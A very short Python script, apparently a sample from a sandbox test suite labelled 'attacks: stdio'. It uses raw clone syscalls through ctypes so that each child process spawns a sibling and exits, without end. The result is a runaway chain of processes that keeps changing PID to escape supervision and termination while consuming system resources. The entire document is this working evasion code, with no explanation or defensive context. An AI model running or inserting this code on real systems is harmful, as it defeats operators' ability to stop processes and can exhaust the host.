# Each brother makes the next and ends, for as long as it is let.
# attacks: stdio
import ctypes, os

libc = ctypes.CDLL(None)
if libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:
    while libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0: pass
    os._exit(0)
